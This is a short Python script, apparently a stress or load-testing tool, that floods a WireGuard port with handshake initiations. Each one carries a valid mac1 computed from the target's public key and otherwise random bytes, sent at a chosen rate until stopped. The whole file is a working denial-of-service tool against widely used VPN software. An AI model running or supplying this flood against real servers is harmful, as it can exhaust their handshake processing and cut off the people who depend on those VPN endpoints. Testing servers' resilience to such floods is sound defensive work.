"""Floods a WireGuard port with initiations that pass mac1 and nothing more, until it is ended.

Arguments: host, port, the public key there in base64, messages a second (0: as many as go).
"""

import base64
import hashlib
import os
import socket
import sys
import time

MAC1_OFFSET = 116
BATCH_S = 0.01


def initiation(mac1_key: bytes) -> bytes:
    message = b"\x01\0\0\0" + os.urandom(MAC1_OFFSET - 4)
    return message + hashlib.blake2s(message, digest_size=16, key=mac1_key).digest() + bytes(16)


def main() -> None:
    host, port, public_key, rate_per_s = sys.argv[1:]
    mac1_key = hashlib.blake2s(b"mac1----" + base64.b64decode(public_key)).digest()
    messages = [initiation(mac1_key) for _ in range(2_000)]
    batch = int(int(rate_per_s) * BATCH_S) or len(messages)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as flood:
        flood.connect((host, int(port)))
        print("ready", flush=True)  # noqa: T201
        while True:
            for message in messages[:batch]:
                try:
                    flood.send(message)
                except ConnectionRefusedError:
                    continue
            messages = messages[batch:] + messages[:batch]
            if int(rate_per_s):
                time.sleep(BATCH_S)


if __name__ == "__main__":
    main()
